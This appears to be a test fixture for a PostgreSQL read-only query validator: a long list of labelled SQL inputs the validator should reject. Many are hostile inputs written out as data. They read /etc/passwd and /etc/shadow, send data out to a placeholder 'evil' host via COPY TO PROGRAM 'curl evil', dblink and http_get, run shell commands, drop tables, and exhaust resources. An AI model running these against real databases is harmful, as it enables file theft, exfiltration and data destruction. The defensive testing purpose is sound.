-- [function.unknown] read a file
SELECT pg_read_file('/etc/passwd')
-- [function.unknown] read a file in FROM
SELECT * FROM pg_read_file('/etc/passwd') AS f
-- [function.qualified] read a file through the schema
SELECT pg_catalog.pg_read_file('/etc/passwd')
-- [function.qualified] read a folder through the schema in FROM
SELECT * FROM pg_catalog.pg_ls_dir('/') AS d(name)
-- [function.quoted] quoted function name
SELECT "pg_read_file"('/etc/passwd')
-- [function.quoted] quoted function name beside an allowed one
SELECT upper(name), "pg_sleep"(9) FROM orders
-- [function.unknown] mixed case
SELECT Pg_SlEeP(10) FROM orders
-- [function.unknown] sleep in WHERE
SELECT id FROM orders WHERE pg_sleep(5) IS NULL
-- [function.unknown] sleep in ORDER BY
SELECT id FROM orders ORDER BY pg_sleep(5)
-- [function.unknown] sleep in a CASE
SELECT CASE WHEN (SELECT 1) = 1 THEN pg_sleep(5) END FROM orders
-- [function.unknown] sleep in JOIN ON
SELECT o.id FROM orders o JOIN items i ON pg_sleep(1) IS NOT NULL
-- [function.unknown] sleep in LATERAL
SELECT * FROM orders, LATERAL pg_sleep(1) AS s
-- [function.unknown] sleep in a window
SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM orders
-- [function.unknown] sleep in FILTER
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
-- [function.unknown] sleep in ROWS FROM
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(3)) AS x
-- [function.unknown] sleep in LIMIT
SELECT id FROM orders LIMIT (SELECT 1 FROM pg_sleep(3))
-- [function.unknown] sleep in VALUES
SELECT * FROM (VALUES (pg_sleep(1))) AS v(x)
-- [function.unknown] sleep in a CTE
WITH s AS (SELECT pg_sleep(1)) SELECT * FROM s
-- [function.unknown] sleep for an interval
SELECT pg_sleep_for('5 minutes')
-- [function.unknown] binary file
SELECT pg_read_binary_file('/etc/shadow')
-- [function.unknown] file facts
SELECT * FROM pg_stat_file('postgresql.conf')
-- [function.unknown] list folder
SELECT pg_ls_logdir()
-- [function.unknown] large object import
SELECT lo_import('/etc/passwd')
-- [function.unknown] large object export
SELECT lo_export(16403, '/tmp/x')
-- [function.unknown] large object write
SELECT lo_from_bytea(0, 'x')
-- [function.unknown] large object put
SELECT lo_put(1, 0, 'x')
-- [function.unknown] dblink
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
-- [function.unknown] dblink exec
SELECT dblink_exec('dbname=x', 'DROP TABLE orders')
-- [statement.kind] COPY to program
COPY orders TO PROGRAM 'curl evil'
-- [statement.kind] COPY from file
COPY orders FROM '/etc/passwd'
-- [function.unknown] set_config
SELECT set_config('app.org', 'x', false)
-- [function.unknown] current_setting
SELECT current_setting('data_directory')
-- [function.unknown] SQL as text to XML
SELECT query_to_xml('DELETE FROM orders', true, true, '')
-- [function.unknown] table to XML
SELECT table_to_xml('pg_authid', true, true, '')
-- [function.unknown] database to XML
SELECT database_to_xml(true, true, '')
-- [function.unknown] cursor to XML
SELECT cursor_to_xml('c', 1, true, true, '')
-- [function.unknown] nextval
SELECT nextval('orders_id_seq')
-- [function.unknown] setval
SELECT setval('orders_id_seq', 1)
-- [function.unknown] lastval
SELECT lastval()
-- [function.unknown] terminate backend
SELECT pg_terminate_backend(1)
-- [function.unknown] cancel backend
SELECT pg_cancel_backend(1)
-- [function.unknown] reload configuration
SELECT pg_reload_conf()
-- [function.unknown] advisory lock
SELECT pg_advisory_lock(1)
-- [function.unknown] advisory transaction lock
SELECT pg_try_advisory_xact_lock(1) FROM orders
-- [function.unknown] writes inside READ ONLY
SELECT pg_import_system_collations('pg_catalog'::text)
-- [function.unknown] logical message
SELECT pg_logical_emit_message(false, 'a', 'b')
-- [function.unknown] replication slot
SELECT pg_create_physical_replication_slot('x')
-- [function.unknown] notify
SELECT pg_notify('channel', 'payload')
-- [function.unknown] statistics query
SELECT * FROM ts_stat('SELECT to_tsvector(secret) FROM users')
-- [function.unknown] rewrite with a query
SELECT ts_rewrite('a'::tsquery, 'SELECT * FROM aliases')
-- [function.unknown] crosstab with a query
SELECT * FROM crosstab('SELECT 1,2,3') AS ct(a int, b int)
-- [function.unknown] user-defined function
SELECT delete_everything()
-- [function.unknown] version
SELECT version()
-- [node.CurrentUser] current user
SELECT current_user
-- [function.unknown] user without brackets
SELECT user FROM orders
-- [node.SessionUser] session user
SELECT session_user
-- [function.unknown] client address
SELECT inet_server_addr()
-- [function.unknown] privilege probe
SELECT has_table_privilege('orders', 'SELECT')
-- [function.unknown] source of a view
SELECT pg_get_viewdef('v'::text)
-- [function.unknown] comments
SELECT obj_description(1)
-- [function.unknown] transaction number
SELECT txid_current()
-- [function.unknown] seed
SELECT setseed(0.5)
-- [table.catalog] catalog table
SELECT relname FROM pg_class
-- [table.catalog] catalog table, qualified
SELECT * FROM pg_catalog.pg_authid
-- [table.catalog] catalog table, quoted
SELECT * FROM "pg_catalog"."pg_shadow"
-- [table.catalog] catalog table, upper case
SELECT * FROM PG_USER
-- [table.catalog] catalog table, aliased and joined
SELECT o.id, p.* FROM orders o CROSS JOIN pg_roles AS p
-- [table.catalog] catalog view in a subquery
SELECT id FROM orders WHERE id IN (SELECT oid FROM pg_database)
-- [table.catalog] information schema
SELECT table_name FROM information_schema.tables
-- [table.catalog] information schema, quoted
SELECT * FROM "information_schema"."columns"
-- [table.catalog] information schema, mixed case
SELECT * FROM Information_Schema.Tables
-- [table.catalog] statistics view
SELECT query FROM pg_stat_activity
-- [table.catalog] settings view
SELECT name FROM pg_settings
-- [table.catalog] large objects
SELECT data FROM pg_largeobject
-- [table.catalog] with the database name
SELECT * FROM shop.pg_catalog.pg_class
-- [table.catalog] toast
SELECT * FROM pg_toast.pg_toast_2619
-- [table.catalog] behind a CTE of the same name
WITH pg_user AS (SELECT 1) SELECT * FROM pg_user
-- [table.catalog] TABLE syntax in a union
SELECT usename FROM orders UNION ALL (SELECT usename FROM pg_shadow)
-- [node.ObjectIdentifier] cast to regclass
SELECT 'pg_authid'::regclass
-- [node.ObjectIdentifier] cast to regproc
SELECT CAST('pg_sleep' AS regproc)
-- [node.ObjectIdentifier] cast to regrole
SELECT 10::regrole
-- [node.ObjectIdentifier] quoted cast to regclass
SELECT 'orders'::"regclass"
-- [type.unknown] cast to a qualified type
SELECT '1'::pg_catalog.regclass
-- [type.unknown] cast to a type of the user
SELECT 'x'::evil_type
-- [node.Operator] operator of a schema
SELECT 1 OPERATOR(pg_catalog.+) 2
-- [node.Operator] operator of a schema in WHERE
SELECT id FROM orders WHERE id OPERATOR(public.===) 2
-- [statement.into] SELECT INTO
SELECT * INTO copy_of_orders FROM orders
-- [statement.into] SELECT INTO TEMP
SELECT id INTO TEMP t FROM orders
-- [node.Lock] FOR UPDATE
SELECT id FROM orders FOR UPDATE
-- [node.Lock] FOR SHARE
SELECT id FROM orders FOR SHARE SKIP LOCKED
-- [node.Lock] FOR NO KEY UPDATE
SELECT id FROM orders FOR NO KEY UPDATE
-- [node.Lock] lock in a subquery
SELECT * FROM (SELECT id FROM orders FOR UPDATE) AS o
-- [node.Delete] delete in a CTE
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone
-- [node.Update] update in a CTE
WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u
-- [statement.into] insert in a CTE
WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i
-- [node.Delete] delete in a nested CTE
SELECT * FROM (WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone) AS x
-- [statement.many] two statements
SELECT 1; DROP TABLE orders
-- [statement.many] commit, then write
SELECT 1; COMMIT; DELETE FROM orders
-- [statement.many] statements behind a comment
SELECT 1 /* ; */; DELETE FROM orders --
-- [statement.kind] delete
DELETE FROM orders
-- [statement.kind] update behind a comment
/* SELECT */ UPDATE orders SET total = 0
-- [statement.kind] update behind a line comment
-- SELECT 1
UPDATE orders SET total = 0
-- [statement.kind] DO block
DO $$ BEGIN PERFORM pg_sleep(1); END $$
-- [statement.kind] EXPLAIN ANALYZE runs it
EXPLAIN ANALYZE DELETE FROM orders
-- [statement.kind] PREPARE
PREPARE p AS DELETE FROM orders
-- [statement.kind] EXECUTE
EXECUTE p
-- [statement.kind] SET ROLE
SET ROLE postgres
-- [statement.kind] SHOW
SHOW data_directory
-- [statement.kind] CALL
CALL wipe()
-- [statement.kind] TRUNCATE
TRUNCATE orders
-- [statement.kind] VALUES alone
VALUES (1), (2)
-- [statement.kind] TABLE alone
TABLE orders
-- [statement.kind] LISTEN
LISTEN x
-- [statement.kind] LOCK TABLE
LOCK TABLE orders
-- [statement.kind] DECLARE
DECLARE c CURSOR FOR SELECT 1
-- [statement.kind] backslash command
\! id
-- [statement.kind] MERGE
MERGE INTO orders USING x ON true WHEN MATCHED THEN DELETE
-- [name.variable] parameter
SELECT id FROM orders WHERE id = $1
-- [node.Placeholder] named parameter
SELECT id FROM orders WHERE id = :id
-- [node.UnicodeString] unicode escapes
SELECT U&'\0070g_sleep'
-- [text.syntax] unicode identifier
SELECT * FROM U&"pg\005fclass"
-- [node.ByteString] escape string
SELECT E'\x70g_sleep'
-- [size.series] series bomb
SELECT count(*) FROM generate_series(1, 1000000000)
-- [size.series] series of series
SELECT count(*) FROM generate_series(1, 1000) a, generate_series(1, 1000) b
-- [size.series] computed series
SELECT count(*) FROM generate_series(1, 10 ^ 9)
-- [size.series] series of seconds
SELECT count(*) FROM generate_series('2000-01-01'::timestamp, '2030-01-01'::timestamp, '1 second')
-- [size.series] series in SELECT
SELECT generate_series(1, 99999999) FROM orders
-- [size.text] huge repeat
SELECT repeat('x', 1000000000)
-- [size.text] computed repeat
SELECT repeat(name, id) FROM orders
-- [size.text] nested repeat
SELECT repeat(repeat('x', 10000), 10000)
-- [size.text] huge padding
SELECT lpad('x', 1000000000, 'y')
-- [size.text] huge width
SELECT format('%1000000000s', name) FROM orders
-- [size.type] huge type
SELECT CAST(name AS char(10000000)) FROM orders
-- [size.text] tower of replace
SELECT replace(replace(replace(replace('a','a','aaaaaaaaaa'),'a','aaaaaaaaaa'),'a','aaaaaaaaaa'),'a','aaaaaaaaaa')
-- [size.recursion] endless recursion
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
-- [size.recursion] recursion to a huge number
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 99999999999) SELECT max(n) FROM r
-- [size.recursion] condition that is no condition
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5 OR 1 = 1) SELECT max(n) FROM r
-- [text.syntax] back-ticks of another dialect
SELECT `password` `from` users
-- [node.Dot] function written as a field
SELECT (o).row_to_json FROM orders o
-- [function.unknown] XML
SELECT xmlelement(name x, name) FROM orders
-- [limit.offset] computed OFFSET
SELECT id FROM orders OFFSET (SELECT 5)
-- [function.unknown] XML query
SELECT xpath('/x', '<x/>'::text)
-- [text.character] zero-width character
SELECT id FROM or​ders
-- [part.field] a table as a list
SELECT id FROM orders WHERE id IN items
-- [function.unknown] behind a backslash that is no escape
SELECT '\', pg_sleep(1) --'
-- [function.unknown] behind a quoted name
SELECT "a""b", pg_sleep(1) FROM orders
-- [node.Lock] lock in a CTE
WITH x AS (SELECT id FROM orders FOR UPDATE) SELECT * FROM x
-- [function.unknown] in an aggregate's ORDER BY
SELECT array_agg(id ORDER BY pg_sleep(1)) FROM orders
-- [function.unknown] in GROUP BY
SELECT count(*) FROM orders GROUP BY pg_sleep(1)
-- [function.unknown] in a recursive step
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5 AND pg_sleep(1) IS NULL) SELECT * FROM r
-- [type.unknown] transaction number type
SELECT '1'::xid8
-- [function.unknown] default of a window
SELECT lag(id, 1, pg_backend_pid()) OVER () FROM orders
-- [function.unknown] in DISTINCT ON
SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
-- [function.unknown] in an array
SELECT ARRAY[pg_sleep(1)] FROM orders
-- [function.unknown] in a subscript
SELECT (ARRAY[1])[pg_backend_pid()] FROM orders
-- [function.unknown] in OFFSET
SELECT id FROM orders LIMIT 1 OFFSET pg_backend_pid()
-- [function.unknown] whole row as text in a comparison with a file
SELECT id FROM orders WHERE pg_read_file('x') = orders::text
-- [function.unknown] type that reads the catalog, spelled as a call
SELECT regclass('pg_authid')
-- [function.quoted] type cast by a function of a type
SELECT "regclass"('pg_authid')
-- [node.ObjectIdentifier] cast to regtype
SELECT 'int4'::regtype
-- [node.ObjectIdentifier] cast to regnamespace
SELECT CAST('public' AS regnamespace)
-- [node.ObjectIdentifier] cast to regoper
SELECT '+'::regoper
-- [node.ObjectIdentifier] cast to regconfig
SELECT 'english'::regconfig
-- [text.syntax] cast to an array of regclass
SELECT '{orders}'::regclass[]
-- [node.ObjectIdentifier] cast to oid
SELECT 1::oid
-- [type.unknown] cast to name
SELECT 'x'::name
-- [type.unknown] cast to a row type of a table
SELECT NULL::orders
-- [node.Dot] cast to a row type, then a field
SELECT (NULL::pg_authid).rolname
-- [function.unknown] populate a record of a type
SELECT * FROM json_populate_record(NULL::pg_authid, '{}')
-- [function.qualified] file by its catalog name in another case
SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')
-- [function.qualified] function of three parts
SELECT shop.pg_catalog.pg_sleep(1)
-- [function.unknown] function with VARIADIC
SELECT pg_sleep(VARIADIC ARRAY[1])
-- [function.unknown] function in brackets of brackets
SELECT ((pg_sleep(1)))
-- [function.unknown] function as an array subscript
SELECT (ARRAY[1,2])[(SELECT 1 FROM pg_sleep(1))]
-- [function.unknown] function in a JSON path argument
SELECT jsonb_path_query(pg_read_file('x')::jsonb, '$')
-- [function.unknown] function in a default of lag
SELECT lag(id, 1, pg_sleep(1)::text::int) OVER () FROM orders
-- [function.unknown] function in a frame
SELECT sum(1) OVER (ORDER BY id ROWS BETWEEN pg_backend_pid() PRECEDING AND CURRENT ROW) FROM orders
-- [function.unknown] function in PARTITION BY
SELECT sum(1) OVER (PARTITION BY pg_sleep(1)) FROM orders
-- [function.unknown] function in a named window
SELECT sum(1) OVER w FROM orders WINDOW w AS (ORDER BY pg_sleep(1))
-- [function.unknown] function in HAVING
SELECT count(*) FROM orders HAVING pg_sleep(1) IS NULL
-- [function.unknown] function in GROUPING SETS
SELECT count(*) FROM orders GROUP BY GROUPING SETS ((pg_sleep(1)))
-- [function.unknown] function in WITHIN GROUP
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_backend_pid()) FROM orders
-- [text.syntax] function in TABLESAMPLE
SELECT * FROM orders TABLESAMPLE BERNOULLI (pg_backend_pid())
-- [function.unknown] sampling method of a user
SELECT * FROM orders TABLESAMPLE my_method (10)
-- [text.syntax] function in REPEATABLE
SELECT * FROM orders TABLESAMPLE SYSTEM (1) REPEATABLE (pg_backend_pid())
-- [function.unknown] function in FETCH
SELECT id FROM orders FETCH FIRST (pg_backend_pid()) ROWS ONLY
-- [function.unknown] function in a row constructor
SELECT ROW(1, pg_sleep(1))
-- [function.unknown] function in a tuple of IN
SELECT id FROM orders WHERE (id, 1) IN ((pg_backend_pid(), 1))
-- [function.unknown] function in ANY
SELECT id FROM orders WHERE id = ANY (pg_blocking_pids(1))
-- [function.unknown] function in BETWEEN
SELECT id FROM orders WHERE id BETWEEN 1 AND pg_backend_pid()
-- [function.unknown] function in an interval
SELECT now() - pg_postmaster_start_time()
-- [text.syntax] function in LIKE ESCAPE
SELECT id FROM orders WHERE name LIKE 'x' ESCAPE pg_read_file('x')
-- [function.unknown] function in COLLATE
SELECT pg_read_file('x') COLLATE "C"
-- [function.unknown] function in AT TIME ZONE
SELECT now() AT TIME ZONE pg_read_file('x')
-- [function.unknown] function in EXTRACT
SELECT extract(year FROM pg_postmaster_start_time())
-- [size.series] function in a USING clause of a series
SELECT * FROM generate_series(1, pg_backend_pid())
-- [function.unknown] function in unnest
SELECT * FROM unnest(pg_blocking_pids(1))
-- [table.kind] function in XMLTABLE
SELECT * FROM XMLTABLE('/x' PASSING query_to_xml('SELECT 1', true, true, '') COLUMNS a text)
-- [table.kind] XMLTABLE alone
SELECT * FROM XMLTABLE('/x' PASSING '<x/>' COLUMNS a text)
-- [text.syntax] XML parse
SELECT XMLPARSE(DOCUMENT '<x/>')
-- [type.unknown] XML with an outside entity
SELECT xml '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
-- [function.unknown] XML of a schema
SELECT schema_to_xml('public', true, true, '')
-- [function.unknown] XML query with its schema
SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')
-- [function.unknown] ROWS FROM with a file
SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS x
-- [function.unknown] function with a column list
SELECT * FROM dblink('x', 'y') AS t(a int, b text)
-- [function.unknown] LATERAL function
SELECT * FROM orders o, LATERAL pg_read_file(o.name) f
-- [function.unknown] LEFT JOIN LATERAL function
SELECT * FROM orders o LEFT JOIN LATERAL dblink(o.name, 'x') AS t(a int) ON true
-- [function.unknown] function WITH ORDINALITY
SELECT * FROM pg_ls_dir('/') WITH ORDINALITY
-- [statement.kind] TABLE as a statement
TABLE pg_authid
-- [table.catalog] TABLE behind WITH
WITH x AS (SELECT 1) TABLE pg_authid
-- [table.catalog] TABLE in a CTE
WITH x AS (TABLE pg_authid) SELECT * FROM x
-- [table.catalog] TABLE in brackets
(TABLE pg_authid)
-- [table.catalog] catalog behind ONLY
SELECT * FROM ONLY pg_class
-- [table.catalog] catalog with a star
SELECT * FROM pg_class *
-- [table.catalog] catalog in a NATURAL JOIN
SELECT * FROM orders NATURAL JOIN pg_class
-- [statement.empty] catalog in EXISTS
SELECT 1 FROM orders WHERE EXISTS (SELECT FROM pg_class)
-- [table.catalog] catalog in a scalar subquery
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
-- [table.catalog] catalog in a LATERAL subquery
SELECT * FROM orders, LATERAL (SELECT * FROM pg_roles) r
-- [table.catalog] catalog in ORDER BY
SELECT id FROM orders ORDER BY (SELECT max(oid) FROM pg_class)
-- [table.catalog] catalog in LIMIT
SELECT id FROM orders LIMIT (SELECT count(*) FROM pg_class)
-- [table.catalog] catalog in a FILTER
SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM pg_class)) FROM orders
-- [table.catalog] catalog in VALUES
SELECT * FROM (VALUES ((SELECT max(oid) FROM pg_class))) v(x)
-- [table.catalog] catalog in an array
SELECT ARRAY(SELECT rolname FROM pg_roles)
-- [table.catalog] catalog behind a quoted odd case
SELECT * FROM "PG_CLASS"
-- [table.catalog] catalog view of locks
SELECT * FROM pg_locks
-- [table.catalog] catalog view of settings
SELECT * FROM pg_catalog.pg_file_settings
-- [table.catalog] catalog view of authentication
SELECT * FROM pg_hba_file_rules
-- [table.catalog] catalog of statistics of values
SELECT most_common_vals FROM pg_stats
-- [table.catalog] catalog of functions
SELECT prosrc FROM pg_proc
-- [table.catalog] catalog of foreign servers
SELECT * FROM pg_user_mappings
-- [table.catalog] catalog of statements
SELECT query FROM pg_stat_statements
-- [table.catalog] catalog by current database
SELECT * FROM postgres.pg_catalog.pg_authid
-- [table.catalog] temporary schema
SELECT * FROM pg_temp.secrets
-- [table.catalog] temporary schema by number
SELECT * FROM pg_temp_3.secrets
-- [table.catalog] information schema with the database
SELECT * FROM shop.information_schema.columns
-- [text.syntax] unicode escape in a name with UESCAPE
SELECT * FROM U&"pg!005fclass" UESCAPE '!'
-- [node.UnicodeString] unicode escape in a text with UESCAPE
SELECT U&'d!0061t' UESCAPE '!'
-- [function.unknown] escape text that closes early
SELECT E'\'', pg_sleep(1) --'
-- [text.unreadable] standard text with a backslash
SELECT 'a\' , pg_sleep(1), '
-- [function.unknown] nested comments
SELECT /* /* */ pg_sleep(1) /* */ */ 1, pg_sleep(1)
-- [text.unreadable] comment that ends early in one dialect
SELECT 1 /* /*/ , pg_sleep(1) /* */
-- [function.unknown] dollar quote with a tag that closes
SELECT $a$x$a$, pg_sleep(1), $b$y$b$
-- [statement.many] dollar quote hiding a statement
SELECT $$x$$; DROP TABLE orders; SELECT $$y$$
-- [text.syntax] operator by its schema in ORDER BY
SELECT id FROM orders ORDER BY id USING OPERATOR(pg_catalog.<)
-- [node.Operator] operator of a schema with ANY
SELECT id FROM orders WHERE id OPERATOR(pg_catalog.=) ANY (ARRAY[1])
-- [node.Collate] collation by its schema
SELECT name COLLATE pg_catalog."C" FROM orders
-- [node.Collate] collation of a user
SELECT name COLLATE evil.coll FROM orders
-- [function.unknown] function by named notation
SELECT pg_sleep(seconds => 1)
-- [function.unknown] make_interval that hides a call
SELECT make_interval(secs => pg_backend_pid())
-- [function.unknown] whole-row function
SELECT delete_all(o) FROM orders o
-- [node.Dot] attribute notation of a function on a row
SELECT (o).delete_all FROM orders o
-- [node.Dot] function on a composite
SELECT (orders).pg_sleep FROM orders
-- [statement.into] insert in a CTE with SELECT
WITH x AS (INSERT INTO orders SELECT 1 RETURNING *) SELECT 1
-- [statement.into] merge in a CTE
WITH x AS (MERGE INTO orders USING o ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM x
-- [text.syntax] truncate in a CTE
WITH x AS (TRUNCATE orders) SELECT 1
-- [statement.kind] delete behind a CTE
WITH x AS (SELECT 1) DELETE FROM orders
-- [statement.kind] update behind a CTE
WITH x AS (SELECT 1) UPDATE orders SET a = 1
-- [statement.into] insert behind a CTE
WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x
-- [statement.into] SELECT INTO UNLOGGED
SELECT * INTO UNLOGGED x FROM orders
-- [statement.into] SELECT INTO in a union
SELECT 1 INTO x UNION SELECT 2
-- [statement.into] SELECT INTO in a subquery
SELECT * FROM (SELECT 1 INTO x) y
-- [statement.into] SELECT INTO behind WITH
WITH a AS (SELECT 1) SELECT * INTO b FROM a
-- [node.Lock] lock of one table
SELECT * FROM orders o JOIN items i ON true FOR UPDATE OF o
-- [node.Lock] lock without waiting
SELECT * FROM orders FOR UPDATE NOWAIT
-- [node.Lock] key share lock
SELECT * FROM orders FOR KEY SHARE
-- [node.Lock] two locks
SELECT * FROM orders FOR UPDATE OF orders FOR SHARE OF orders
-- [node.Lock] lock behind LIMIT
SELECT * FROM orders LIMIT 1 FOR UPDATE
-- [node.Lock] lock behind FETCH
SELECT * FROM orders FETCH FIRST 1 ROW ONLY FOR UPDATE
-- [node.Lock] lock in brackets
(SELECT * FROM orders FOR UPDATE)
-- [node.Lock] lock in EXISTS
SELECT 1 WHERE EXISTS (SELECT 1 FROM orders FOR UPDATE)
-- [node.Lock] lock in a union's side
(SELECT id FROM orders FOR UPDATE) UNION ALL SELECT 1
-- [text.syntax] lock for reading only
SELECT * FROM orders FOR READ ONLY
-- [statement.kind] EXPLAIN of a write
EXPLAIN DELETE FROM orders
-- [statement.kind] EXPLAIN with options
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders
-- [statement.kind] COPY a query to a program
COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'
-- [statement.kind] COPY a query to standard output
COPY (SELECT * FROM orders) TO STDOUT
-- [statement.kind] COPY from a program
COPY orders FROM PROGRAM 'id'
-- [statement.kind] EXECUTE with parameters
EXECUTE p(1, 2)
-- [statement.kind] DEALLOCATE
DEALLOCATE ALL
-- [statement.kind] SET LOCAL
SET LOCAL row_security = off
-- [statement.kind] SET SESSION AUTHORIZATION
SET SESSION AUTHORIZATION postgres
-- [statement.kind] SET TRANSACTION
SET TRANSACTION READ WRITE
-- [statement.kind] RESET
RESET ALL
-- [statement.kind] DISCARD
DISCARD ALL
-- [statement.kind] UNLISTEN
UNLISTEN *
-- [statement.kind] NOTIFY
NOTIFY x, 'y'
-- [statement.kind] FETCH from a cursor
FETCH ALL FROM c
-- [statement.kind] MOVE a cursor
MOVE NEXT FROM c
-- [statement.kind] CLOSE a cursor
CLOSE ALL
-- [statement.kind] LOAD a library
LOAD 'auto_explain'
-- [statement.kind] REFRESH
REFRESH MATERIALIZED VIEW v
-- [statement.kind] SECURITY LABEL
SECURITY LABEL ON TABLE orders IS 'x'
-- [statement.kind] COMMENT
COMMENT ON TABLE orders IS 'x'
-- [statement.kind] REASSIGN
REASSIGN OWNED BY a TO b
-- [statement.kind] CHECKPOINT
CHECKPOINT
-- [statement.kind] SAVEPOINT
SAVEPOINT x
-- [statement.kind] ROLLBACK TO
ROLLBACK TO SAVEPOINT x
-- [statement.kind] PREPARE TRANSACTION
PREPARE TRANSACTION 'x'
-- [statement.kind] IMPORT FOREIGN SCHEMA
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
-- [statement.kind] CREATE FUNCTION
CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql
-- [statement.kind] CREATE EXTENSION
CREATE EXTENSION dblink
-- [statement.kind] ALTER SYSTEM
ALTER SYSTEM SET x = 1
-- [statement.kind] transaction left by COMMIT AND CHAIN
COMMIT AND CHAIN
-- [function.unknown] large object open
SELECT lo_open(1, 131072)
-- [function.unknown] large object create
SELECT lo_create(0)
-- [function.unknown] large object unlink
SELECT lo_unlink(1)
-- [function.unknown] large object read
SELECT lo_get(1)
-- [function.unknown] large object by its old name
SELECT loread(1, 100)
-- [function.unknown] write a file by an extension
SELECT pg_file_write('/tmp/x', 'y', false)
-- [function.unknown] rename a file by an extension
SELECT pg_file_rename('a', 'b')
-- [function.unknown] read by an extension
SELECT pg_file_read('/etc/passwd', 0, 100)
-- [function.unknown] call out by an extension
SELECT * FROM http_get('http://evil')
-- [function.qualified] call out asynchronously
SELECT net.http_post('http://evil')
-- [function.qualified] schedule by an extension
SELECT cron.schedule('* * * * *', 'DROP TABLE orders')
-- [function.unknown] background worker
SELECT pg_background_launch('DROP TABLE orders')
-- [function.unknown] dblink connect
SELECT dblink_connect('host=evil')
-- [function.unknown] dblink send
SELECT dblink_send_query('x', 'y')
-- [function.unknown] foreign data wrapper connections
SELECT postgres_fdw_disconnect_all()
-- [function.unknown] cross table of two queries
SELECT * FROM crosstab('SELECT 1', 'SELECT 2') AS c(a int)
-- [function.unknown] connect by a query
SELECT * FROM connectby('orders', 'id', 'parent', '1', 0) AS t(a text)
-- [function.unknown] queries of text search
SELECT ts_stat('SELECT vector FROM docs')
-- [text.syntax] run SQL by a helper
SELECT execute('DROP TABLE orders')
-- [function.unknown] eval by a helper
SELECT eval('DROP TABLE orders')
-- [function.unknown] exit by a helper
SELECT * FROM query('DROP TABLE orders')
-- [function.unknown] switch the log
SELECT pg_switch_wal()
-- [function.unknown] rotate the log
SELECT pg_rotate_logfile()
-- [function.unknown] stop recovery
SELECT pg_promote()
-- [function.unknown] backup
SELECT pg_backup_start('x')
-- [function.unknown] create a restore point
SELECT pg_create_restore_point('x')
-- [function.unknown] drop a slot
SELECT pg_drop_replication_slot('x')
-- [function.unknown] read changes
SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)
-- [function.unknown] reset statistics
SELECT pg_stat_reset()
-- [function.unknown] read memory
SELECT * FROM pg_get_backend_memory_contexts()
-- [function.unknown] log memory
SELECT pg_log_backend_memory_contexts(1)
-- [function.unknown] relation file
SELECT pg_relation_filepath('orders')
-- [function.unknown] relation size
SELECT pg_total_relation_size('orders')
-- [function.unknown] database size
SELECT pg_database_size('x')
-- [function.unknown] definition of a function
SELECT pg_get_functiondef(1)
-- [function.unknown] definition of a constraint
SELECT pg_get_constraintdef(1)
-- [function.unknown] visible tables
SELECT to_regclass('pg_authid')
-- [function.unknown] current schema
SELECT current_schema()
-- [function.unknown] current schemas
SELECT current_schemas(true)
-- [function.unknown] current catalog without brackets
SELECT current_catalog
-- [function.unknown] current schema without brackets
SELECT current_schema
-- [function.unknown] current role without brackets
SELECT current_role
-- [function.unknown] system user
SELECT system_user
-- [function.unknown] postmaster start
SELECT pg_postmaster_start_time()
-- [function.unknown] configuration load
SELECT pg_conf_load_time()
-- [function.unknown] server port
SELECT inet_server_port()
-- [function.unknown] client address
SELECT inet_client_addr()
-- [function.unknown] transaction state
SELECT pg_current_xact_id()
-- [function.unknown] snapshot
SELECT pg_export_snapshot()
-- [function.unknown] wal position
SELECT pg_current_wal_lsn()
-- [function.unknown] trigger depth
SELECT pg_trigger_depth()
-- [function.unknown] stored value of a sequence
SELECT currval('s')
-- [function.unknown] next value in FROM
SELECT * FROM nextval('orders_id_seq')
-- [function.unknown] next value in a WHERE
SELECT id FROM orders WHERE nextval('s') > 0
-- [function.unknown] last value of a sequence relation
SELECT pg_sequence_last_value('s'::text)
-- [function.unknown] sleep until
SELECT pg_sleep_until('tomorrow')
-- [function.unknown] sleep by a column
SELECT pg_sleep(id) FROM orders
-- [function.unknown] lock by session
SELECT pg_advisory_lock_shared(1, 2)
-- [function.unknown] unlock
SELECT pg_advisory_unlock_all()
-- [function.unknown] column privilege
SELECT has_column_privilege('orders', 'id', 'SELECT')
-- [function.unknown] row security probe
SELECT row_security_active('orders')
-- [function.unknown] data types of a value
SELECT format_type(23, NULL)
-- [function.unknown] seed
SELECT setseed(0.1) FROM orders
-- [function.unknown] comment of a column
SELECT col_description(1, 1)
-- [function.unknown] encoding of the client
SELECT pg_client_encoding()
-- [function.unknown] server encoding change
SELECT pg_char_to_encoding('x')
-- [function.unknown] collation versions
SELECT pg_collation_actual_version(100)
-- [size.series] huge series of days
SELECT count(*) FROM generate_series('0001-01-01'::date, '9999-12-31'::date, '1 hour')
-- [size.series] series of series in SELECT
SELECT generate_series(1, 50000), generate_series(1, 50000)
-- [size.series] series by repeated commas
SELECT count(*) FROM generate_series(1, 99999) a, generate_series(1, 99999) b, generate_series(1, 99999) c
-- [size.series] series with step zero
